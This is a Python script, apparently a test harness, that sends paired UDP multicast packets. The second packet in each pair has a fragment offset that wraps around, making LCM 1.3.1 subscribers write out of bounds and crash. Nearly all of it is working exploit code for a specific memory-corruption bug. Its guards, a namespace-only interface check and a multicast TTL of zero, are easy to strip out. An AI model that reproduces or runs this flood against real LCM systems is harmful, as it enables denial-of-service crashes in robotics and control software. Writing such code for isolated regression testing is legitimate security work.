#!/usr/bin/env python3
"""fragment_flood.py SECONDS PAIRS_PER_SECOND PORT CHANNEL: pairs of UDP packets that crash the channel's subscribers in LCM 1.3.1.

The second packet is a fragment whose offset is so large that offset + length wraps to a small number: LCM takes it for a place within
the message, and writes 4 GB behind its beginning. To be sent in a network namespace of a test's own only, in which nobody else hears
it: it refuses to run where lo is not the only interface.
"""
import pathlib
import socket
import struct
import sys
import time

seconds, rate, port, channel = float(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3]), sys.argv[4].encode()
interfaces = [line.split(":")[0].strip() for line in pathlib.Path("/proc/self/net/dev").read_text().splitlines()[2:]]
if [name for name in interfaces if not name.startswith(("lo", "tunl", "sit", "gre", "ip6", "erspan", "ip_vti"))]:
    sys.exit(f"fragment_flood.py: this namespace has {', '.join(interfaces)}; only in one of a test's own")
LC03 = 0x4C433033
SIZE, PIECE = 2_000, 1_000
WRAPPED = 2**32 - 500  # + PIECE = 500, which is within SIZE
mouth = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
mouth.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 0)


def fragment(number, offset, index, body):
    return struct.pack(">IIIIHH", LC03, number, SIZE, offset, index, 2) + body


began, sent = time.monotonic(), 0
while time.monotonic() < began + seconds:
    mouth.sendto(fragment(sent, 0, 0, channel + b"\0" + b"x" * PIECE), ("239.255.76.67", port))
    mouth.sendto(fragment(sent, WRAPPED, 1, b"x" * PIECE), ("239.255.76.67", port))
    sent += 1
    time.sleep(max(0.0, began + sent / rate - time.monotonic()))
print(f"{sent} pairs sent")
